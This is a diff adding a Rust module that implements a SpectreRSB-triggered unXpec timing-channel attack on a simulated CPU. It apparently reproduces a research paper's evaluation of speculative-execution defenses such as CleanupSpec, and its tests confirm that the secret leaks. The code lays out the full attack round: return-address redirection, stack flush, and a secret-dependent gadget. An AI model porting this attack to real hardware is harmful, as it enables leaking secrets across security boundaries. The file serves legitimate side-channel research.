@@ -1,0 +1,184 @@
+//! SpectreRSB / ret2spec triggers, and unXpec through them.
+//!
+//! The third trigger family the paper cites ([22], [27]): desynchronize
+//! the return stack buffer from the architectural stack, and `ret`
+//! speculates at a stale site. As with the v2 module, the point is that
+//! the unXpec *receiver* is trigger-agnostic — the rollback of whatever
+//! the stale site transiently loaded is what leaks.
+//!
+//! The round: the victim calls a function; inside, the return address
+//! on the stack is redirected to the benign continuation and the stack
+//! line is flushed (slow target resolution = wide window). The RSB
+//! still predicts the original call site, where the secret-dependent
+//! gadget sits.
+
+use unxpec_cpu::{Core, Defense, Program, ProgramBuilder, Reg};
+use unxpec_mem::Addr;
+
+use crate::eviction::probe_latency;
+use crate::layout::AttackLayout;
+use crate::sender::RoundRegs;
+
+const SP: Reg = Reg(30);
+const R_TMP: Reg = Reg(3);
+const R_SEC: Reg = Reg(4);
+const R_V: Reg = Reg(5);
+const R_K: Reg = Reg(6);
+const R_X: Reg = Reg(7);
+const R_ABASE: Reg = Reg(10);
+const R_PBASE: Reg = Reg(11);
+const R_ADDR: Reg = Reg(12);
+const R_IDX: Reg = Reg(14);
+const R_ESC: Reg = Reg(15);
+
+/// A SpectreRSB-triggered attacker instance.
+#[derive(Debug)]
+pub struct SpectreRsb {
+    core: Core,
+    layout: AttackLayout,
+    round: Program,
+    victim_touch: Program,
+    regs: RoundRegs,
+}
+
+impl SpectreRsb {
+    /// Builds the attacker against `defense`.
+    pub fn new(defense: Box<dyn Defense>) -> Self {
+        let mut core = Core::table_i();
+        core.set_defense(defense);
+        let layout = AttackLayout::new(core.hierarchy().config().l1d.sets as u64);
+        layout.install(core.mem_mut(), 1);
+        let round = Self::build_round(&layout);
+        let mut vb = ProgramBuilder::new();
+        vb.mov(Reg(1), layout.secret_addr().raw());
+        vb.load(Reg(2), Reg(1), 0);
+        vb.halt();
+        let mut this = SpectreRsb {
+            core,
+            layout,
+            round,
+            victim_touch: vb.build(),
+            regs: RoundRegs::default(),
+    
+    };
+        // One discarded round per secret: the first round pays the
+        // cold-stack / cold-prep misses that later rounds do not.
+        this.measure_bit(false);
+        this.measure_bit(true);
+        this
+    }
+
+    fn build_round(layout: &AttackLayout) -> Program {
+        let regs = RoundRegs::default();
+        let mut b = ProgramBuilder::new();
+        b.mov(SP, 0x9_0000);
+        b.mov(R_ABASE, layout.a_base().raw());
+        b.mov(R_PBASE, layout.probe().base().raw());
+        b.mov(R_IDX, layout.oob_index());
+        // r15 <- @escape, published by the driver at 0x8_0000 (the
+        // assembler resolves labels per program, but the escape PC must
+        // be a runtime value to overwrite the return slot with).
+        b.mov(R_ESC, 0x8_0000);
+        b.load(R_ESC, R_ESC, 0);
+        // Preparation: P[0] warm, P[64] flushed.
+        b.load(R_X, R_PBASE, 0);
+        b.flush(R_PBASE, 64);
+        b.fence();
+        b.rdtsc(regs.t1);
+        b.call("victim_fn", SP);
+        // --- stale return site: the secret-dependent gadget, reached
+        // only transiently through the RSB prediction ---
+        b.shl(R_TMP, R_IDX, 3u64);
+        b.add(R_ADDR, R_TMP, R_ABASE);
+        b.load(R_SEC, R_ADDR, 0);
+        b.shl(R_V, R_SEC, 6u64);
+        b.mul(R_K, R_V, 1u64);
+        b.add(R_K, R_K, R_PBASE);
+        b.load(R_X, R_K, 0); // P[64 * secret]
+        b.halt();
+        // --- benign continuation (the redirected return target) ---
+        b.label("escape");
+        b.rdtsc(regs.t2);
+        b.halt();
+        // --- the called function: redirect + flush the return slot ---
+        b.label("victim_fn");
+        b.store(R_ESC, SP, 0); // r15 holds @escape (set by the driver)
+        b.flush(SP, 0);
+        b.fence();
+        b.ret(SP);
+        b.build()
+    }
+
+    /// The machine.
+    pub fn core(&self) -> &Core {
+        &self.core
+    }
+
+    /// Runs one round against `secret`, returning `(latency,
+    /// footprint_visible)`.
+    pub fn measure_bit(&mut self, secret: bool) -> (u64, bool) {
+        self.layout.set_secret(self.core.mem_mut(), secret);
+        self.core.run(&self.victim_touch);
+        let escape = self.round.label("escape").expect("escape label");
+        self.core
+            .mem_mut()
+            .write_u64(Addr::new(0x8_0000), escape as u64);
+        let r = self.core.run(&self.round);
+        let latency = r.reg(self.regs.t2) - r.reg(self.regs.t1);
+        let probe = Addr::new(self.layout.probe().base().raw() + 64);
+        let reload = probe_latency(&mut self.core, probe);
+        (latency, reload < 60)
+    }
+
+    /// Mean secret-dependent timing difference over `samples` rounds per
+    /// secret.
+    pub fn timing_difference(&mut self, samples: usize) -> f64 {
+        let mut sum0 = 0.0;
+        let mut sum1 = 0.0;
+        for _ in 0..samples {
+            sum0 += self.measure_bit(false).0 as f64;
+            sum1 += self.measure_bit(true).0 as f64;
+        }
+        (sum1 - sum0) / samples as f64
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use unxpec_cpu::UnsafeBaseline;
+    use unxpec_defense::CleanupSpec;
+
+    #[test]
+    fn rsb_footprint_leaks_against_unsafe_baseline() {
+        let mut attacker = SpectreRsb::new(Box::new(UnsafeBaseline));
+        let (_, fp1) = attacker.measure_bit(true);
+        let (_, fp0) = attacker.measure_bit(false);
+        assert!(fp1, "secret=1 must leave P[64] cached under the baseline");
+        assert!(!fp0, "secret=0 never touches P[64]");
+    }
+
+    #[test]
+    fn rsb_footprint_is_erased_by_cleanupspec() {
+        let mut attacker = SpectreRsb::new(Box::new(CleanupSpec::new()));
+        let (_, fp) = attacker.measure_bit(true);
+        assert!(!fp, "CleanupSpec must roll the gadget's install back");
+    }
+
+    #[test]
+    fn unxpec_channel_works_through_an_rsb_trigger() {
+        let mut attacker = SpectreRsb::new(Box::new(CleanupSpec::new()));
+        let diff = attacker.timing_difference(12);
+        assert!(
+            (12.0..=35.0).contains(&diff),
+            "rsb-triggered rollback difference {diff} ~ 22"
+        );
+    }
+
+    #[test]
+    fn rsb_timing_channel_is_silent_on_the_baseline() {
+        let mut attacker = SpectreRsb::new(Box::new(UnsafeBaseline));
+        let diff = attacker.timing_difference(12).abs();
+        assert!(diff < 6.0, "no rollback, no channel: {diff}");
+    }
+}
